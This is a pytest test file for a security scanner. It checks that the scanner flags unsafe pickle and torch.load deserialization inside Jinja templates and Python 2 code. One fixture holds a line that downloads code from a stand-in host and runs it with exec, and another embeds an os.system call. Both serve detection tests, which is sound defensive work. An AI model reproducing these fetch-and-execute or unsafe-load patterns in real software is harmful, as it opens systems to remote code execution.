"""Templates of Python and Python 2: read for what they load, said to be what they are, and never silent."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import scanner
from scanner.code import dialects, python2, source, template
from scanner.model import Report
from scanner.policy import Policy


def scan(tmp_path: Path, files: dict[str, str]) -> Report:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    return scanner.scan(tmp_path, Policy(check_advisories=False))


def rules(report: Report) -> list[tuple[str, int | None]]:
    return sorted((row.evidence.rule, row.evidence.where.line) for row in report.findings)


TEMPLATES = [
    pytest.param(
        "import torch\nfrom {{ cookiecutter.slug }}.x import y\ntorch.load(f, weights_only=False)\n",
        3,
        id="a value",
    ),
    pytest.param(
        "import torch\n{% if cookiecutter.gpu -%}\ntorch.load(f, weights_only=False)\n{%- endif %}\n",
        3,
        id="a condition around lines",
    ),
    pytest.param(
        "import torch\n{#- a remark\n over lines -#}\nclass {{ name | title }}Model:\n"
        "    def __init__(self):\n        torch.load(f, weights_only=False)\n",
        6,
        id="a remark of two lines, a name with a filter",
    ),
    pytest.param(
        "import torch\nx = {% if a %}None{% else %}torch.load(f, weights_only=False){% endif %}\n",
        2,
        id="the second branch in a line",
    ),
    pytest.param(
        "import torch\nx = {% if a %}torch.load(f, weights_only=False){% elif b %}1{% else %}2{% endif %}\n",
        2,
        id="the first of three branches in a line",
    ),
    pytest.param(
        "import torch\n{% if a %}\ndef f(x):\n{% else %}\ndef f(x, y):\n{% endif %}\n"
        "    return torch.load(x, weights_only=False)\n",
        7,
        id="two heads of one function",
    ),
    pytest.param(
        "import torch\n{% for x in xs %}\n{{ x }}_model = torch.load(f, weights_only=False)\n{% endfor %}\n",
        3,
        id="a loop",
    ),
]


@pytest.mark.parametrize(("text", "line"), TEMPLATES)
def test_a_template_is_read_and_said_to_be_one(text: str, line: int, tmp_path: Path) -> None:
    report = scan(tmp_path, {"{{ cookiecutter.slug }}/train.py": text})
    assert ("SRC-009", line) in rules(report)
    assert [rule for rule, _ in rules(report)] == ["SRC-009", "SRC-012"]
    assert report.coverage.state == "complete"
    told = next(row for row in report.findings if row.evidence.rule == "SRC-012")
    assert (told.level, told.evidence.message) == ("info", dialects.TEMPLATE)


def test_modules_of_a_template_find_each_other(tmp_path: Path) -> None:
    report = scan(
        tmp_path,
        {
            "{{ cookiecutter.slug }}/paths.py": "MODEL = 'weights.pkl'\n",
            "{{ cookiecutter.slug }}/weights.pkl": "x",
            "{{ cookiecutter.slug }}/app.py": "import pickle\n"
            "from {{ cookiecutter.slug }}.paths import MODEL\n"
            "pickle.load(open(MODEL, 'rb'))\n",
        },
    )
    found = {row.loads for row in report.chains}
    assert found == {"{{ cookiecutter.slug }}/weights.pkl"}


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("import {{ a }}\nx = (\n", id="it is no Python without its tags"),
        pytest.param("import {{ a }\n", id="a tag that is not closed"),
        pytest.param("import {{ a }}\n{% include 'b.py' %}\n", id="another file"),
        pytest.param("import {{ a }}\n{{ 'import os; os.system(1)' }}\n", id="Python in a text of a tag"),
        pytest.param("import {{ a }}\n{{ '%s' | format('" + "a" * 70 + "') }}\n", id="a long text in a tag"),
        pytest.param("import {{ a }}\nx = {% if a %}1{% else %}({% endif %}\n", id="one branch is no Python"),
        pytest.param("def f(:\n", id="no template"),
    ],
)
def test_what_cannot_all_be_read_stays_unchecked(text: str, tmp_path: Path) -> None:
    report = scan(tmp_path, {"a.py": text})
    assert [rule for rule, _ in rules(report)] == ["COV-001"]
    assert report.coverage.state == "partial"


@pytest.mark.parametrize("text", ["x = {{1, 2} - {1}}\n", 'x = f"{{ {1} }}"\n', "x = {'a': {'b': 1}}\n"])
def test_braces_of_python_are_no_tags(text: str, tmp_path: Path) -> None:
    assert not [row for row in rules(scan(tmp_path, {"a.py": text})) if row[0] == "SRC-012"]


PYTHON_2 = [
    pytest.param("import cPickle\nprint 'a', 1\ncPickle.load(f)\n", 3, id="print"),
    pytest.param(
        "import cPickle\nprint >>err, 'a' % (1,\n 2)\nprint ''\ncPickle.load(f)\n", 5, id="print >>"
    ),
    pytest.param("import cPickle\nif a: print 'a',\ncPickle.load(f)\n", 3, id="print behind a condition"),
    pytest.param("import cPickle\nprint cPickle.load(f)\n", 2, id="what is printed"),
    pytest.param("import pickle\ntry:\n    pickle.load(f)\nexcept (A, B), e:\n    pass\n", 3, id="except"),
    pytest.param("import pickle\ntry:\n    pass\nexcept A, e: pickle.load(f)\n", 4, id="except in a line"),
    pytest.param("import pickle\nraise E, 'a' % (\n 1)\npickle.load(f)\n", 4, id="raise"),
    pytest.param("import pickle, os\nos.chmod(a, 0755)\nx = 10L\npickle.load(f)\n", 4, id="numbers"),
    pytest.param("import pickle\nif a <> b:\n    pickle.load(`c`)\n", 3, id="signs"),
    pytest.param("import pickle\nx = ur'a'\npickle.load(f)\n", 3, id="a text"),
    pytest.param("import pickle\nif a:\n        x = 1\n\ty = pickle.load(f)\n", 4, id="tabs and spaces"),
    pytest.param("import pickle\r\nprint 'a'\r\npickle.load(f)\r\n", 3, id="lines of Windows"),
]


@pytest.mark.parametrize(("text", "line"), PYTHON_2)
def test_python_2_is_read_and_said_to_be_that(text: str, line: int, tmp_path: Path) -> None:
    (tmp_path / "a.py").write_bytes(text.encode())
    report = scanner.scan(tmp_path, Policy(check_advisories=False))
    assert [rule for rule, _ in rules(report)] == ["SRC-009", "SRC-013"]
    assert ("SRC-009", line) in rules(report)
    assert report.coverage.state == "complete"


def test_exec_of_python_2_is_a_call(tmp_path: Path) -> None:
    text = "import urllib2\nprint 1\nexec urllib2.urlopen('http://x.io/a').read() in {}\n"
    report = scan(tmp_path, {"a.py": text, "b.py": text.replace(" in {}", "")})
    places = {
        (row.evidence.where.path, row.evidence.where.line)
        for row in report.findings
        if row.evidence.rule == "SRC-006"
    }
    assert places == {("a.py", 3), ("b.py", 3)}


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="{}%#a =\n'\"if(:", max_size=60))
def test_every_variant_has_the_lines_of_the_template(text: str) -> None:
    for row in template.variants(text):
        assert row.count("\n") == text.count("\n")


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="pritexcasN ,:'\n\t0`<>=()", max_size=60))
def test_whatever_is_read_has_as_many_lines_as_the_file(text: str) -> None:
    found = dialects.read(text, source.parsed)
    for _, row in found.trees if found is not None else ():
        assert row.count("\n") == text.count("\n")


@pytest.mark.parametrize(
    "line",
    [
        pytest.param(" " * 400_000 + "x", id="blanks"),
        pytest.param("exec " + "a in " * 80_000 + "#", id="exec, in, in, in"),
        pytest.param("exec a" + " " * 400_000 + "#", id="exec and blanks"),
        pytest.param("exec a in b" + " " * 400_000 + "#", id="exec in and blanks"),
        pytest.param("except " + ", " * 200_000 + "x", id="except and commas"),
    ],
)
def test_no_line_is_read_over_and_over(line: str) -> None:
    # In time that grows with its square, each of these took longer than anybody waits.
    assert all(one.text.count("\n") == 2 for one in python2.told(f"print 1\n{line}\n"))


def test_exec_with_names_and_blanks() -> None:
    (first, *_) = python2.told("exec  code   in  names \nexec code\n")
    assert first.text == "exec(code, names)\nexec(code)\n"
